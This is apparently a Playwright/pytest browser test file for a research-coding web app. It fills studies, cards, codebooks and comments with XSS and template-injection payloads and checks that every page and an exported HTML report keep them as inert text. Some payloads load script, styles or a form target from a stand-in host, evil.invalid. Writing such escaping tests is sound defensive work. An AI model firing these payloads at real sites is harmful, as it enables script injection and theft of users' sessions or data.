"""What people type stays text: no page runs it, loads it, follows it or counts it out."""

import csv
import io

import pytest
from fastapi import FastAPI
from playwright.sync_api import Dialog, Page
from sqlmodel import Session, col, select

from app.accounts.service import create_account
from app.codebook.editing import add_category, add_facet
from app.codebook.models import Category, StagedCodebook
from app.codebook.rules import CategoryFields, FacetFields
from app.codebook.service import publish
from app.coding.desks import Judgement
from app.coding.drafts import RoundDraft, create_round
from app.coding.models import Round
from app.coding.placing import place_card
from app.coding.rounds import open_round
from app.coding.rules import Plan, Value
from app.corpus.imports import Choices, Reading, guess_uses, mapping_of
from app.corpus.models import Card
from app.corpus.service import import_cards, prepare
from app.corpus.staging import first_settings, stage
from app.db import now
from app.negotiation.comments import add_comment
from app.negotiation.rules import Cause, Outcome
from app.negotiation.service import disagreements
from app.negotiation.settling import Settlement
from app.resolution.closing import close_round
from app.studies.models import Membership
from app.studies.people import invite_member
from app.studies.rules import Role
from app.studies.service import NewStudy, add_member, create_study, study_id_of
from app.tables.readers import read_table
from tests.browser.conftest import OpenPage, PageProblems
from tests.browser.visitors import objects_of, page_addresses, sign_in_page
from tests.factories import PASSWORD, fresh_id
from tests.negotiation.negotiations import settle_it

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><svg onload=alert(2)>',
    "'><img src=x onerror=alert(3)>",
    "{{7*7}}${7*7}",
    '<div hx-get="/account" hx-trigger="load">x</div>',
    "</textarea></title><script src=//evil.invalid/x.js></script>",
)
NAME = " ".join(PAYLOADS[:4])
LONG = "\n\n".join(
    (
        *PAYLOADS,
        "[go](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>)",
        "![picture](https://evil.invalid/pixel.png) <https://evil.invalid/>",
        '<style>@import "https://evil.invalid/x.css";</style><base href="//evil.invalid/">',
        '<iframe srcdoc="<script>alert(6)</script>"></iframe><form action="//evil.invalid">',
    )
)
# What a browser made of the texts: none of it may be there.
TRACES = """
() => [
  ...document.querySelectorAll("main script, main iframe, main style, main base, main object"),
  ...document.querySelectorAll("main [onload], main [onerror], main [onclick], [srcdoc]"),
  ...document.querySelectorAll("a[href^='javascript:' i], a[href^='data:' i]"),
  ...document.querySelectorAll("main img:not([src^='/studies/'])"),
  ...document.querySelectorAll("[hx-get='/account'], form[action*='evil']"),
].map((element) => element.outerHTML.slice(0, 200))
"""


def cards_file() -> bytes:
    out = io.StringIO()
    table = csv.writer(out)
    table.writerow(["id", "title", "text", "source", "pro<b>ject"])
    for number, source in enumerate(("javascript:alert(7)", "https://evil.invalid/?a=<script>")):
        table.writerow([f"{number}{NAME}", NAME, f"{number} {LONG}", source, NAME])
    return out.getvalue().encode()


@pytest.fixture
def study_id(app: FastAPI) -> int:
    with app.state.database.transaction() as session:
        return make_hostile_study(session)


def make_hostile_study(session: Session) -> int:
    """A closed and an open round in which every text is an attack."""
    accounts = [
        create_account(session, email=f"{one}@example.org", name=f"{one} {NAME}", password=PASSWORD)
        for one in ("ada", "ben", "cleo")
    ]
    lead_id = accounts[0].id or 0
    study = create_study(session, NewStudy(NAME, description=LONG), lead=accounts[0])
    study_id = study_id_of(study)
    for account in accounts[1:]:
        add_member(session, study, account, role=Role.CODER)
    invite_member(session, study, role=Role.CODER, note=NAME, by=lead_id, days=7)
    bring_texts(session, study_id, lead_id)
    for is_closed in (True, False):
        sort_round(session, study_id, lead_id, is_closed=is_closed)
    return study_id


def bring_texts(session: Session, study_id: int, lead_id: int) -> None:
    content = cards_file()
    table = read_table(content, file_name="cards.csv")
    prepared = prepare(session, study_id, table, mapping_of(guess_uses(table)))
    name = f"{NAME}.csv"
    import_cards(session, study_id, prepared, Choices(), account_id=lead_id, file_name=name)
    settings = first_settings(content, "cards.csv", Reading(None, None, None))
    stage(session, study_id, lead_id, file_name=name, content=content, settings=settings)
    facet = add_facet(session, study_id, FacetFields(NAME, LONG), by=lead_id)
    for number in range(2):
        fields = CategoryFields(f"{number} {NAME}", NAME, LONG, LONG, LONG, LONG)
        add_category(session, facet, fields, by=lead_id, external_id=str(number))
    publish(session, study_id, NAME, by=lead_id)
    rows = f'facet,name,definition\n"{NAME.replace(chr(34), chr(34) * 2)}",New<script>,<b>x</b>\n'
    row = StagedCodebook(
        id=fresh_id(),
        study_id=study_id,
        account_id=lead_id,
        file_name=name,
        content=rows.encode(),
        created_at=now(),
    )
    session.add(row)


def sort_round(session: Session, study_id: int, lead_id: int, *, is_closed: bool) -> None:
    members = session.exec(select(Membership).order_by(col(Membership.id))).all()
    categories = session.exec(select(Category).order_by(col(Category.id))).all()
    draft = RoundDraft(
        name=f"{is_closed} {NAME}",
        plan=Plan(),
        coder_ids=tuple(member.id or 0 for member in members[1:]),
        facet_ids=(categories[0].facet_id,),
        codebook_version_id=1,
        seed=1,
    )
    round_ = create_round(session, study_id, draft, by=lead_id)
    open_round(session, round_, by=lead_id)
    round_id = round_.id or 0
    for member, category in zip(members[1:], categories, strict=True):
        for card_id in session.exec(select(Card.id)).all():
            said = Judgement(
                card_id=card_id or 0,
                facet_id=category.facet_id,
                value=Value.CATEGORIES,
                category_ids=(category.id or 0,),
                memo=LONG,
            )
            place_card(session, round_id, member.id or 0, said)
    if is_closed:
        close_round(session, round_, reason=NAME, is_forced=True, by=lead_id)
        talk(session, round_, members[0], categories[0].id or 0)


def talk(session: Session, round_: Round, lead: Membership, category_id: int) -> None:
    first, second = disagreements(session, round_)
    for one in (first, second):
        add_comment(session, one, lead.id or 0, LONG)
    settlement = Settlement(
        value=Value.CATEGORIES,
        category_ids=(category_id,),
        outcome=next(iter(Outcome)),
        cause=next(iter(Cause)),
        rationale=LONG,
    )
    settle_it(session, first, settlement, by=lead)


@pytest.mark.parametrize("person", ["ada", "ben"])
def test_what_people_type_stays_text(
    app: FastAPI,
    study_id: int,
    open_page: OpenPage,
    server_url: str,
    page_problems: PageProblems,
    person: str,
) -> None:
    page_problems.allow("status of 40[349]")  # 409: help that the round does not declare
    page = open_page()
    asked: list[str] = []
    page.on("dialog", lambda dialog: note_dialog(asked, dialog))
    sign_in_page(app, page, f"{person}@example.org", server_url)
    with app.state.database.reading() as session:
        values = objects_of(session, study_id)
        addresses = page_addresses(app, session, values)
    of_study = [one for one in addresses if not one.startswith("/help")]
    of_study += [f"/studies/{study_id}/rounds/1/sort", f"/studies/{study_id}/cards?search={NAME}"]
    found = {address: traces(page, address) for address in of_study}
    assert {address: traces for address, traces in found.items() if traces} == {}
    assert asked == []
    assert len(found) > 30


def test_the_report_that_is_opened_from_a_disk_stays_text(
    app: FastAPI, study_id: int, open_page: OpenPage, server_url: str
) -> None:
    page = open_page()
    asked: list[str] = []
    page.on("dialog", lambda dialog: note_dialog(asked, dialog))
    sign_in_page(app, page, "ada@example.org", server_url)
    report = page.request.get(f"/studies/{study_id}/rounds/1/report.html")
    assert report.ok
    # Without the headers of the server, which would stop what got through.
    page.goto("about:blank")
    page.set_content(report.text())
    assert "{{7*7}}" in page.locator("body").inner_text()
    assert page.evaluate(TRACES.replace("main ", "body ")) == []
    assert asked == []


def note_dialog(asked: list[str], dialog: Dialog) -> None:
    asked.append(dialog.message)
    dialog.dismiss()


def traces(page: Page, address: str) -> list[str]:
    page.goto(address)
    found = page.evaluate(TRACES)
    words = page.locator("body").inner_text()
    if "49${7*7}" in words or "$49" in words:
        found.append("the sum was counted out")
    return found
